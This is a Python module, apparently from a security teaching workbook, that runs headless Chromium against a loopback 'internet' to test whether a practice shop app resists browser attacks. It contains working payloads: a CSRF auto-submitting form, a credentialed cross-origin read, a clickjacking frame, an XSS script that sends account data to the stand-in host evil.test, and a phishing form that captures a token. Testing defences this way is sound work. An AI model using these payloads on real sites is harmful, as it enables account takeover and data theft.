"""The victim's browser: headless Chromium, a piece of the internet on the loopback address, and what is done to it.

    https://shop.test        the app, behind a proxy that ends TLS, and a front page to sign in on
    https://evil.test        the attacker's pages, on another site
    https://evil.shop.test   the same pages on another origin of the same site, to which a browser adds the shop's
                             cookies whatever their SameSite says (RFC 6265bis, 5.2)
    https://app.shop.test    a front end of the shop's, on the same site too; and one that stands on another site,
                             https://app.shop-front.test

Chromium finds these names on the loopback address because it is told to (--host-resolver-rules); the rest is as in
life: TLS, the cookie jar, the same-origin policy. By default Chromium sends no third-party cookies any more; other
browsers do, so the profile allows them.
"""

import json
import logging
import os
import shutil
import signal
import ssl
import threading
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from http.client import HTTPConnection
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import trustme
from playwright.sync_api import BrowserContext, Error, Page, sync_playwright

from workbook.book import accounts
from workbook.bootstrap import BROWSERS
from workbook.folders import temporary_folder
from workbook.learn.exploits import Exhausted, Failure, Loot, Outcome, Stopped
from workbook.learn.shop import Shop
from workbook.serve.addresses import FOREIGN_ORIGIN, ORIGIN

OTHER_SITE, SIBLING = "https://evil.test", "https://evil.shop.test"
DISTANT_FRONT_END = "https://app.shop-front.test"
HOSTS = [urlsplit(origin).netloc for origin in (ORIGIN, OTHER_SITE, SIBLING, FOREIGN_ORIGIN, DISTANT_FRONT_END)]
TIMEOUT_SECONDS = 15.0
FLAGS = ["--headless", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
FLAGS += ["--disable-component-update", "--disable-sync", "--ignore-certificate-errors"]
THIRD_PARTY_COOKIES = {"profile": {"block_third_party_cookies": False, "cookie_controls_mode": 0}}

BLANK = "<!doctype html><title>shop.test</title>"
FORM = f"""<!doctype html><title>A prize for you</title>
<form action="{ORIGIN}/api/shelves" method="post"><input type="hidden" name="name"></form>
<script>
  const form = document.forms[0]
  form.elements.name.value = decodeURIComponent(location.hash.slice(1))
  form.submit()
</script>"""
READ = f"""<!doctype html><title>A prize for you</title>
<script>
  fetch("{ORIGIN}/api/users/me", {{credentials: "include"}})
    .then(async answer => ({{status: answer.status, text: await answer.text()}}), error => ({{error: String(error)}}))
    .then(loot => fetch("/loot", {{method: "POST", body: JSON.stringify(loot)}}))
    .then(() => {{ window.done = true }})
</script>"""
FRAME = f"""<!doctype html><title>A prize for you</title>
<h1>Click here for your prize</h1><iframe src="{ORIGIN}/api/shelves" width="900" height="400"></iframe>"""
PAGES = {"/form": FORM, "/read": READ, "/frame": FRAME}

SIGN_IN = """async ([path, who]) => {
  const token = (await (await fetch("/api/auth/csrf")).json()).csrf_token
  const headers = {"Content-Type": "application/json", "X-CSRF-Token": token}
  return (await fetch(path, {method: "POST", headers, body: JSON.stringify(who)})).status
}"""
LOOK = "async path => (await fetch(path)).text()"
SCRIPT = f"""<img src="/nowhere" onerror="
  fetch('/api/users/me').then(answer => answer.text()).then(text => {{
    const image = new Image()
    image.onload = image.onerror = () => {{ window.sent = text }}
    image.src = '{OTHER_SITE}/?' + encodeURIComponent(text)
  }})">"""
ASK_FOR_THE_TOKEN = f"""<form action="{OTHER_SITE}/loot" method="post" enctype="text/plain" target="_blank">
<label>Your session has expired. Please enter your token: <input id="typed"></label><button id="send">Authorize</button>
</form>"""
PUT_IN = """html => {
  document.addEventListener("securitypolicyviolation", event => { window.refused = event.effectiveDirective })
  document.body.insertAdjacentHTML("afterbegin", html)
}"""


class NoChromium(Exception):
    """Why there is no browser, and what to do about it."""


def executable() -> Path:
    """Where Chromium is, or Chrome; raises NoChromium."""
    for name in BROWSERS:
        if found := shutil.which(name):
            return Path(found)
    raise NoChromium("no Chromium; install it (apt install chromium, or brew install --cask chromium)")


class _Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Nothing: browsers open connections that they do not use, and close others early."""


class Internet:
    """One server on the loopback address that is all these hosts, by the name it is asked for."""

    def __init__(self) -> None:
        self.app = ""  # where the shop's proxy passes its requests on to
        self.address = ""  # the victim's
        self.loot: list[dict[str, Any]] = []  # what the attacker's pages sent home
        internet = self

        class Handler(_Handler):
            def answer(self) -> None:
                internet.answer(self)

            do_GET = do_HEAD = do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = answer

        self._server = _Server(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        trustme.CA().issue_cert(*HOSTS).configure_cert(context)
        # the handshake is the handler's: a connection that the browser only keeps ready must not hold up the others
        self._server.socket = context.wrap_socket(self._server.socket, server_side=True, do_handshake_on_connect=False)
        self.port: int = self._server.server_address[1]
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self) -> None:
        """Take the hosts off the net."""
        self._server.shutdown()
        self._server.server_close()

    def answer(self, request: "_Handler") -> None:
        """Answer as the host that was asked."""
        host, path = request.headers.get("Host", ""), urlsplit(request.path).path
        if f"https://{host}" == ORIGIN:
            if path == "/":
                request.page(BLANK)
            else:
                request.pass_on(self.app, self.address)
        elif request.command == "POST" and path == "/loot":
            self.loot.append(json.loads(request.body()))
            request.page("")
        else:
            request.page(PAGES.get(path, ""))


class _Handler(BaseHTTPRequestHandler):
    """Pages, and the proxy in front of the shop."""

    def body(self) -> bytes:
        """What the browser sent."""
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def page(self, text: str) -> None:
        """Answer with a page."""
        self._send(200, [("Content-Type", "text/html; charset=utf-8")], text.encode())

    def pass_on(self, app: str, address: str) -> None:
        """Answer as the app does, told the way that the request came."""
        added = {"X-Edge-For": address, "X-Edge-Proto": "https", "Connection": "close"}
        replaced = {name.lower() for name in added}
        headers = {name: value for name, value in self.headers.items() if name.lower() not in replaced} | added
        connection = HTTPConnection(urlsplit(app).netloc, timeout=TIMEOUT_SECONDS)
        try:
            connection.request(self.command, self.path, self.body(), headers)
            answer = connection.getresponse()
            self._send(answer.status, answer.getheaders(), answer.read())
        except OSError as error:
            self._send(502, [("Content-Type", "text/plain")], f"the app does not answer: {error}".encode())
        finally:
            connection.close()

    def _send(self, status: int, headers: list[tuple[str, str]], body: bytes) -> None:
        with suppress(ConnectionError):  # the browser has gone on
            self.send_response_only(status)
            for name, value in headers:
                if name.lower() not in ("connection", "transfer-encoding", "content-length"):
                    self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Nothing: the terminal is the grid's."""


class Chromium:
    """A browser with a profile of its own, which is one victim after another."""

    def __init__(self, internet: Internet, page: Page) -> None:
        self._internet, self._page = internet, page

    def visitor(self, shop: Shop) -> "Victim":
        """Somebody who comes to `shop`, and has no cookie yet."""
        self._internet.app, self._internet.address = shop.url, shop.address()
        self._internet.loot.clear()
        self._page.context.clear_cookies()
        return Victim(self._internet, self._page)

    def new_page(self) -> Page:
        """A page beside the victim's, in the same profile."""
        return self._page.context.new_page()

    def victim(self, shop: Shop, name: str, path: str = "/api/auth/login") -> "Victim":
        """The sample user `name`, signed in to `shop` on its own page, at `path`; raises Failure where that does not
        work.
        """
        victim = self.visitor(shop)
        who = {"email": f"{name}@example.org", "password": accounts.password(name)}
        with understood():
            victim.visit("/")
            status = self._page.evaluate(SIGN_IN, [path, who])
        if status != 200:
            kind = Exhausted if status == 429 else Failure
            raise kind(f"signing in on a page of the shop has to answer 200, and answers {status}")
        return victim


class Victim:
    """Somebody who is signed in to the shop, and whose browser then comes to the attacker's page."""

    def __init__(self, internet: Internet, page: Page) -> None:
        self._internet, self.page = internet, page

    def visit(self, path: str) -> None:
        """Open a page of the shop."""
        self.page.goto(f"{ORIGIN}{path}")

    def forged_form(self, attacker: str, name: str) -> Outcome:
        """A page of `attacker` submits a form that makes a shelf called `name`, as soon as it is opened."""
        with understood():
            with self.page.expect_response(f"{ORIGIN}/api/shelves") as caught:
                self.page.goto(f"{attacker}/form#{name}", wait_until="commit")
            self.page.wait_for_url(f"{ORIGIN}/api/shelves")
            answer = caught.value.json()
            self.visit("/")
            shelves = json.loads(self.page.evaluate(LOOK, "/api/shelves"))["items"]
        if any(shelf["name"] == name for shelf in shelves):
            return Loot(f"a page of {attacker} has made the shelf {name!r} for alice")
        return Stopped(f"{caught.value.status}: {answer.get('detail')}")

    def cross_origin_read(self, attacker: str) -> Outcome:
        """A page of `attacker` fetches the victim's account, cookie included, and sends home what it may read."""
        with understood():
            self.page.goto(f"{attacker}/read")
            self.page.wait_for_function("window.done")
        loot = self._internet.loot[-1]
        if loot.get("status") == 200:
            account = json.loads(loot["text"])
            return Loot(f"sent home to {attacker}: {account['name']}, {account['email']}, {account['age']} years old")
        return Stopped(f"the browser hands nothing over: {loot.get('error') or loot['text']}")

    def framed(self, attacker: str) -> Outcome:
        """A page of `attacker` shows the victim's shelves within its own."""
        with understood():
            self.page.goto(f"{attacker}/frame")
            frame = self.page.frames[1]
            text = frame.locator("body").inner_text()
        if frame.url.startswith(ORIGIN) and '"items"' in text:
            names = [shelf["name"] for shelf in json.loads(text)["items"]]
            return Loot(f"in a frame of {attacker}: the shelves {', '.join(map(repr, names))}")
        return Stopped(f"the frame stays empty: {' '.join(text.split()) or frame.url}")

    def script_put_in(self, path: str) -> Outcome:
        """Somebody's text has got into the page at `path`, with a script in it, which sends home who the reader is."""
        with understood():
            self.visit(path)
            self.page.evaluate(PUT_IN, SCRIPT)
            sent = refused = None
            until = time.monotonic() + TIMEOUT_SECONDS
            while not (sent or refused) and time.monotonic() < until:  # `wait_for_function` is `eval` to a policy
                self.page.wait_for_timeout(50)
                sent, refused = self.page.evaluate("[window.sent, window.refused]")
        if sent:
            account = json.loads(sent)
            return Loot(f"sent home to {OTHER_SITE}: {account['name']}, {account['email']}, {account['age']} years old")
        if not refused:
            raise Failure("a script that was put into the page neither runs nor is refused")
        return Stopped(f"the browser does not run it: {refused}")

    def form_put_in(self, path: str, token: str) -> Outcome:
        """Somebody's text has got into the page at `path`, with a form in it, into which the reader types a token."""
        with understood():
            self.visit(path)
            self.page.evaluate(PUT_IN, ASK_FOR_THE_TOKEN)
            self.page.locator("#typed").fill(token)
            # a form that is text is JSON, if its one field is called so that it comes out as that
            self.page.evaluate("""() => {
                const typed = document.getElementById("typed")
                typed.name = '{"typed": "'
                typed.value += '"}'
            }""")
            self.page.locator("#send").click()
            refused = None
            until = time.monotonic() + TIMEOUT_SECONDS
            while not (self._internet.loot or refused) and time.monotonic() < until:
                self.page.wait_for_timeout(50)
                refused = self.page.evaluate("window.refused")
        if self._internet.loot:
            return Loot(f"sent home to {OTHER_SITE}: the token {self._internet.loot[-1]['typed'].strip('=')[:24]}…")
        if not refused:
            raise Failure("a form that was put into the page is neither sent nor refused")
        return Stopped(f"the browser does not send it: {refused}")


@contextmanager
def understood() -> Iterator[None]:
    """What the browser complains of is the app's failure: it has answered something that no page can go on with."""
    try:
        yield
    except Error as error:
        raise Failure(f"the browser does not get on: {error.message.splitlines()[0]}") from error


@contextmanager
def chromium() -> Iterator[Chromium]:
    """A Chromium with a fresh profile, gone after the block; raises NoChromium where there is none that starts."""
    program = executable()
    with temporary_folder() as folder, ExitStack() as stack:
        internet = Internet()
        stack.callback(internet.close)
        profile = folder / "profile"
        (profile / "Default").mkdir(parents=True)
        (profile / "Default" / "Preferences").write_text(json.dumps(THIRD_PARTY_COOKIES))
        rules = ", ".join(f"MAP {host} 127.0.0.1:{internet.port}" for host in HOSTS)
        flags = [*FLAGS, f"--host-resolver-rules={rules}, MAP * ~NOTFOUND"]
        flags += ["--no-sandbox"] if os.geteuid() == 0 else []
        # the answer to a call that Ctrl-C cut short is an error to Playwright, which the next call raises anyway
        logging.getLogger("playwright").addHandler(logging.NullHandler())
        playwright = stack.enter_context(sync_playwright())
        try:
            context = playwright.chromium.launch_persistent_context(
                profile,
                executable_path=program,
                args=flags,
                handle_sigint=False,  # Ctrl-C is answered by the end of this block, while the driver still listens
                handle_sigterm=False,
                handle_sighup=False,
            )
        except Error as error:
            raise NoChromium(f"{program} does not start ({error.message.splitlines()[0]})") from error
        with suppress(OSError, ValueError):  # HOST-PID, by which Chromium keeps a profile to itself
            stack.callback(_end, int((profile / "SingletonLock").readlink().name.rpartition("-")[2]))
        stack.callback(_close, context)
        context.set_default_timeout(TIMEOUT_SECONDS * 1000)
        try:
            yield Chromium(internet, context.pages[0])
        except KeyboardInterrupt:
            logging.getLogger("asyncio").disabled = True  # which would tell at length that the driver is gone too
            raise


def _close(context: BrowserContext) -> None:
    with suppress(Error):  # the browser or its driver may be gone already
        context.close()


def _end(group: int) -> None:
    """End what outlives the browser: it would write into the profile while that is removed, and after that."""
    with suppress(ProcessLookupError, PermissionError):  # none is left; or, on macOS, only those that have ended
        os.killpg(group, signal.SIGKILL)
